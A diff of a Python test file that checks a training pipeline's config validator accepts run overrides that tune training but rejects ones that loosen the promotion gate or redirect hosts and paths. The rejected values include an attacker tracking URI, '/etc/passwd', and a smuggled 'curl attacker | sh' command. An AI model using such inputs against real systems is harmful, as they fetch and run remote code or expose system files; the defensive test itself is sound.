@@ -48,12 +48,12 @@ def test_set_and_environment_take_lists_and_null_as_json():
     assert got["ingest"]["required_workloads"] == ["lookup"] and got["grpo"]["guard_kl_coef"] is None
 
 
-def test_a_dag_param_of_a_list_or_null_reaches_the_ray_job_typed(tmp_path):
+def test_a_dag_param_of_a_list_or_null_reaches_the_ray_job_typed(tmp_path, monkeypatch):
     from tasks.rundir import RunDir
     from tasks.stages.training import grpo_command
 
-    params = {"grpo_steps": 2, "overrides": {"ingest.required_workloads": ["lookup"], "grpo.guard_kl_coef": None,
-                                             "run_dir": str(tmp_path)}}
+    monkeypatch.setenv("EVERGREEN_RUN_DIR", str(tmp_path))  # the deployment's; a run's params may not move it
+    params = {"grpo_steps": 2, "overrides": {"grpo.lora.target_modules": ["q_proj"], "grpo.guard_kl_coef": None}}
     settings = settings_for(params)
     rd = RunDir.for_run(settings, "continuous_post_training", "manual__1")
     (rd.path / "champion").mkdir()
@@ -67,5 +67,26 @@ def test_a_dag_param_of_a_list_or_null_reaches_the_ray_job_typed(tmp_path):
     settings_file = args[args.index("--settings") + 1]
     seen = _cli("--settings", settings_file, "settings",
                 env={"EVERGREEN_GRPO__GUARD_KL_COEF": "0.5", "EVERGREEN_GRPO__STEPS": "9"})
-    assert seen["ingest"]["required_workloads"] == ["lookup"] and seen["grpo"]["guard_kl_coef"] is None
+    assert seen["grpo"]["lora"]["target_modules"] == ["q_proj"] and seen["grpo"]["guard_kl_coef"] is None
     assert seen["grpo"]["steps"] == 2 and seen["ray"]["address"] == "127.0.0.1:6390"
+
+
+def test_a_runs_params_may_tune_training_but_not_loosen_the_gate_or_point_elsewhere():
+    from tasks.config import SettingsError
+
+    tuned = settings_for({"grpo_steps": 3, "overrides": {"rollout.group_size": 4, "promotion.min_gain": 0.2,
+                                                         "promotion.guard_tolerance": 0.01}})
+    assert (tuned.grpo.steps, tuned.rollout.group_size, tuned.promotion.min_gain) == (3, 4, 0.2)
+    refused = {"promotion.min_gain": -0.99, "promotion.min_gain_per_dollar": 0, "promotion.guard_tolerance": 0.99,
+               "tracking.uri": "http://attacker:5000", "cost.prices_file": "/etc/passwd", "run_dir": "/tmp/x",
+               "monitor.traces": "s3://elsewhere/", "env.name": "evil.module:factory", "model.name_or_path": "/x",
+               "grpo.production_tasks": "/etc/hosts", "ray.address": "10.0.0.1:6379"}
+    with pytest.raises(SettingsError) as e:
+        settings_for({"overrides": refused})
+    for field in refused:  # every refused field in one error, with why
+        assert f"  {field}=" in str(e.value), field
+    with pytest.raises(SettingsError, match="only make the gate stricter"):
+        settings_for({"overrides": {"promotion.min_gain": 0.0}})
+    with pytest.raises(SettingsError, match="shipped toolset version"):
+        settings_for({"target_toolset": "mcp:sh -c 'curl attacker | sh'"})
+    assert settings_for({"target_toolset": "v1"}).env.target_toolset == "v1"
